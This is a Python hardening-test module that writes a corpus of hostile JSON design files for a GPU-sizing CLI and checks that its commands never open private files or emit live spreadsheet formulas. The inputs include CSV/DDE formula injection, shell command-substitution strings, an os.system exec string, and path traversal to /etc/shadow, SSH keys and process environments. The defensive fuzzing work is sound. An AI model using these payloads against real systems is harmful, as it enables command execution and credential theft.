"""The hostile-input corpus: design files that try to break gpuwizard, written to a folder.

``python -m tests.hardening.corpus OUT_DIR`` writes them (about 200 files); ``test_corpus.py``
runs every command on every one, and ``benchmarks/run.py --corpus`` times them. Each file is
derived from a bundled example, so most of it is valid and the hostile part reaches the code
that would mishandle it: markup and escapes in every text a proposal, a terminal or a
spreadsheet shows; numbers at and past the ends of each field's range (subnormals included);
duplicate keys, coercible types, broken encodings and structures; logo paths that point at
devices and private files; and the largest designs the schema allows.

``CANARY`` in a file stands for a private file outside the corpus folder; the test creates it
there and checks that no command ever opens it.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import json
import os
import re
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from wizard.base.bundled import example_names, example_text

CANARY = "@CANARY@"  # replaced by the path of a private picture outside the corpus folder

# Text that is markup, an escape sequence, a formula or a script a font lacks.
TEXTS: dict[str, str] = {
    "img-canary": f'<img src="{CANARY}" width="300" height="150"/>',
    "img-dev-zero": "<img src='/dev/zero'/>",
    "link-passwd": '<a href="file:///etc/passwd">terms</a>',
    "font-passwd": '<font name="/etc/passwd" size="400">x</font>',
    "unclosed-para": '<para autoLeading="max"><b>unclosed',
    "entities": "&lt;&amp;&#0;&#x110000;&bogus; & < >",
    "reportlab-tags": '<seq id="x"/><onDraw name="x"/><br/><br/><br/>',
    "terminal": "\x1b[2J\x1b[31mred\x1b]8;;http://example.invalid\x07link\x1b]8;;\x07\x07\b\r",
    "csv-hyperlink": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "csv-dde": "+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)",
    "csv-minus": "-2+3",
    "csv-tab": "\t=1+1",
    "bidi": "\u202egnp.exe\u200b\ufeff\u2066x\u2069",
    "cjk": "客户名称 株式会社 한국어 العربية",
    "format": "%s%n{0}{__class__}${HOME}$(id)`id`",
    "nul": "a\u0000b",
    "longest": "W" * 200,
    # refused at validation, naming the field: a line break pasted from Word, a C1 control
    "word-line-break": "first line\vsecond line",
    "c1": "Acme\u0085Corp",
    # valid: one Unicode form for names that read alike; joiners and emoji sequences
    "nfd": "Cafe\u0301 Zu\u0308rich",
    "joiners": "a\u200db\u2060c 👩\u200d👩\u200d👧 🏳\ufe0f\u200d🌈",
}

TEXT_FIELDS: list[tuple[str, tuple[Any, ...]]] = [
    ("enterprise", ("project", "customer")),
    ("enterprise", ("project", "project_name")),
    ("enterprise", ("project", "architect")),
    ("enterprise", ("project", "notes")),
    ("llm-serving", ("workloads", 0, "name")),
]

# At and past the ends of a number's range: the smallest subnormal, the largest double, minus
# zero, a negative, a tiny positive, integers past any count and past a double's precision.
NUMBERS: list[float | int] = [5e-324, 1.7976931348623157e308, -0.0, -1, 1e-7, 10**20, 2**53 + 1, 0]


def _leaves(doc: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    if isinstance(doc, dict):
        for key, value in doc.items():
            yield from _leaves(value, (*path, key))
    elif isinstance(doc, list):
        for i, value in enumerate(doc):
            yield from _leaves(value, (*path, i))
    else:
        yield path, doc


def _set(doc: Any, path: tuple[Any, ...], value: Any) -> Any:
    out = copy.deepcopy(doc)
    where = out
    for key in path[:-1]:
        where = where[key]
    where[path[-1]] = value
    return out


def _example(name: str) -> dict:
    return json.loads(example_text(name))


def _dump(doc: Any) -> str:
    return json.dumps(doc, ensure_ascii=False, indent=1)


def _number_cases() -> Iterator[tuple[str, str]]:
    """Every number of every example, each set to two of NUMBERS in turn (a field seen in
    several examples is taken once)."""
    seen: set[tuple[Any, ...]] = set()
    i = 0
    for name in example_names():
        doc = _example(name)
        for path, value in _leaves(doc):
            if isinstance(value, bool) or not isinstance(value, int | float):
                continue
            shape = tuple("#" if isinstance(k, int) else k for k in path)
            if shape in seen:
                continue
            seen.add(shape)
            for value_new in (NUMBERS[i % len(NUMBERS)], NUMBERS[(i + 3) % len(NUMBERS)]):
                label = ".".join(str(k) for k in path)
                yield f"number-{name}-{label}-{value_new!r}", _dump(_set(doc, path, value_new))
            i += 1


def _text_cases() -> Iterator[tuple[str, str]]:
    for example, path in TEXT_FIELDS:
        doc = _example(example)
        label = ".".join(str(k) for k in path)
        for kind, text in TEXTS.items():
            yield f"text-{label}-{kind}", _dump(_set(doc, path, text))


def _structure_cases() -> Iterator[tuple[str, str]]:
    base = _example("enterprise")
    body = _dump(base)
    yield "dup-key-workloads", body.rstrip()[:-1] + ', "workloads": []}'
    yield "dup-key-nested", body.replace('"count": 3', '"count": 3, "count": 300', 1)
    yield "coerce-count-string", _dump(_set(base, ("workloads", 0, "count"), "3"))
    yield "coerce-count-true", _dump(_set(base, ("workloads", 0, "count"), True))
    yield "coerce-nvlink-yes", _dump(_set(base, ("hardware", "nvlink"), "yes"))
    yield "coerce-date-zero", _dump(_set(base, ("project", "date"), 0))
    yield "nan", body.replace('"count": 3', '"count": NaN', 1)
    yield "infinity", body.replace('"count": 3', '"count": -Infinity', 1)
    yield "huge-exponent", body.replace('"count": 3', '"count": 1e999', 1)
    yield "huge-integer", body.replace('"count": 3', '"count": ' + "9" * 5000, 1)
    yield "deep-nesting", "[" * 100_000 + "]" * 100_000
    yield "unknown-field", _dump({**base, "exec": "__import__('os').system('id')"})
    yield "version-999", _dump({**base, "schema_version": 999})
    yield "version-0", _dump({**base, "schema_version": 0})
    yield "empty", ""
    yield "null", "null"
    yield "list", "[]"
    yield "truncated", body[: len(body) // 2]
    yield "lone-surrogate", body.replace("Example Corp", "\\ud800", 1)
    yield "unknown-gpu", _dump(_set(base, ("hardware", "gpu"), "../../../etc/passwd"))
    yield "no-workloads", _dump({**base, "workloads": []})
    for name in ("/dev/zero", "/etc/passwd", "../../../../etc/shadow", CANARY, "/proc/self/environ",
                 "~/.ssh/id_rsa", "\\\\server\\share\\logo.png"):  # fmt: skip
        label = "".join(c if c.isalnum() else "-" for c in name).strip("-")
        yield f"logo-{label}", _dump(_set(base, ("project", "logo_path"), name))
    group = base["workloads"][1]
    many = [{**group, "name": f"Group {i:03d} " + "W" * 60} for i in range(200)]
    yield "groups-200-long-names", _dump({**base, "workloads": many})
    # names that read alike: refused, naming both
    twin = {**group, "name": group["name"].upper()}
    yield "names-differ-by-case", _dump({**base, "workloads": [*base["workloads"], twin]})
    # options: one that cannot be built (refused by validate), notes at the schema's maximum
    options = json.loads(_options_example())
    yield "option-unbuildable", _dump(
        {**options, "options": [{**options["options"][0], "cluster_name": "Gone",
                                 "clusters": [{"name": "Gone", "role": "management-domain",
                                               "server": "dell-r760xa"}]}]}
    )  # fmt: skip
    long_notes = [{**o, "note": ("Option note " * 200)[:2000]} for o in options["options"]]
    yield "option-notes-2000", _dump({**options, "options": long_notes})


def _options_example() -> str:
    """The documented design with options (docs/, beside the bundled examples)."""
    return (Path(__file__).resolve().parents[2] / "docs" / "acme-options.json").read_text("utf-8")


def _binary_cases(body: str) -> Iterator[tuple[str, bytes]]:
    yield "utf8-bom", b"\xef\xbb\xbf" + body.encode("utf-8")
    yield "utf16", body.encode("utf-16")
    yield "utf16-no-bom", body.encode("utf-16-le")
    yield "latin1", body.replace("Example Corp", "Soci\u00e9t\u00e9").encode("latin-1")
    yield "invalid-utf8", body.encode("utf-8").replace(b"Example", b"Exa\xff\xfemple", 1)
    yield "nul-bytes", b"\x00" * 4096
    yield "zip-magic", b"PK\x03\x04" + b"\x00" * 100


def write_corpus(out: Path, canary: Path) -> list[Path]:
    """Write every case to ``out`` (one ``.json`` file each); ``canary`` replaces CANARY."""
    out.mkdir(parents=True, exist_ok=True)
    written: list[Path] = []
    cases: list[tuple[str, bytes]] = []
    for name, text in (*_text_cases(), *_number_cases(), *_structure_cases()):
        # A path inside a JSON string: escaped as JSON would escape it.
        cases.append((name, text.replace(CANARY, json.dumps(str(canary))[1:-1]).encode("utf-8")))
    cases.extend(_binary_cases(_dump(_example("enterprise"))))
    for name, data in cases:
        safe = "".join(c if c.isalnum() or c in "-._" else "_" for c in name)[:120]
        path = out / f"{safe}.json"
        path.write_bytes(data)
        written.append(path)
    return written


# ------------------------------------------------------------------------------ running it

COMMANDS: list[tuple[str, list[str]]] = [
    ("validate", ["validate", "{design}"]),
    ("size", ["size", "{design}"]),
    ("size-json", ["size", "{design}", "--json"]),
    ("report", ["report", "{design}", "-o", "{out}/p.pdf", "--date", "2026-11-02"]),
    ("bom-csv", ["bom", "{design}", "-o", "{out}/b.csv"]),
    ("bom-xlsx", ["bom", "{design}", "-o", "{out}/b.xlsx"]),
    ("mig-config", ["mig-config", "{design}", "-o", "{out}/m.yaml"]),
]


@dataclass
class Run:
    """One command on one file: its exit code, what it printed, how long it took and which
    files it opened."""

    file: Path
    command: str
    code: int
    stdout: str
    stderr: str
    seconds: float
    opened: list[str] = field(default_factory=list)


_OPENED: list[str] | None = None


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _OPENED is not None and event == "open" and isinstance(args[0], str | bytes):
        _OPENED.append(os.fsdecode(args[0]))


_HOOKED = False


def run_commands(design: Path, out: Path) -> list[Run]:
    """Every command on ``design``, in this process, through the CLI's entry point (no user
    catalog, so the runs depend on the bundled catalogs only)."""
    global _HOOKED
    from wizard.cli import main as cli

    if not _HOOKED:  # an audit hook cannot be removed: one per process, switched by _OPENED
        sys.addaudithook(_audit)
        _HOOKED = True
    runs = []
    temp = out / "tmp"  # a library's temporary files (openpyxl's) land here, not in /tmp
    temp.mkdir(parents=True, exist_ok=True)
    saved_temp, tempfile.tempdir = tempfile.tempdir, str(temp)
    try:
        for name, argv in COMMANDS:
            runs.append(_run_one(cli, design, out, name, argv))
    finally:
        tempfile.tempdir = saved_temp
    return runs


def _run_one(cli: Any, design: Path, out: Path, name: str, argv: list[str]) -> Run:
    global _OPENED
    args = [a.format(design=design, out=out) for a in argv]
    stdout, stderr = io.StringIO(), io.StringIO()
    _OPENED = []
    start = time.perf_counter()
    try:
        with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
            code = cli(["--no-user-catalog", *args])
    finally:
        opened, _OPENED = _OPENED, None
    seconds = time.perf_counter() - start
    return Run(design, name, code, stdout.getvalue(), stderr.getvalue(), seconds, opened)


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python -m tests.hardening.corpus OUT_DIR", file=sys.stderr)
        return 2
    out = Path(argv[0])
    canary = out.parent / "private" / "private.png"
    files = write_corpus(out, canary)
    print(f"wrote {len(files)} files to {out} (CANARY: {canary})")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))


FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def warm_up() -> None:
    """What a process reads once whatever the design (its package metadata, fonts, catalogs,
    the libraries' own files), read before any run is recorded, as a long-lived process has."""
    from wizard.cli import main as cli

    with tempfile.TemporaryDirectory() as folder:
        design = Path(folder) / "d.json"
        design.write_text(example_text("enterprise"), encoding="utf-8")
        with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
            for _, argv in COMMANDS:
                cli(["--no-user-catalog", *(a.format(design=design, out=folder) for a in argv)])


def run_file(job: tuple[Path, Path]) -> list[Run]:
    """Every command on one corpus file, writing into its own folder, and the bill checks: the
    unit of work of the corpus, run in a worker process of its own."""
    design, out = job
    out.mkdir(parents=True)
    runs = run_commands(design, out)
    check_bom(out)
    return runs


def check_bom(out: Path) -> None:
    """Checked right after the runs on one file, before the next file's runs."""
    csv_path, xlsx_path = out / "b.csv", out / "b.xlsx"
    if csv_path.exists():
        with open(csv_path, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    live = cell.startswith(FORMULA_START) and not NUMBER.match(cell)
                    assert not live, (csv_path, cell)
    if xlsx_path.exists():
        from openpyxl import load_workbook

        for ws in load_workbook(xlsx_path).worksheets:
            for row in ws.iter_rows():
                assert all(cell.data_type != "f" for cell in row), (xlsx_path, row)
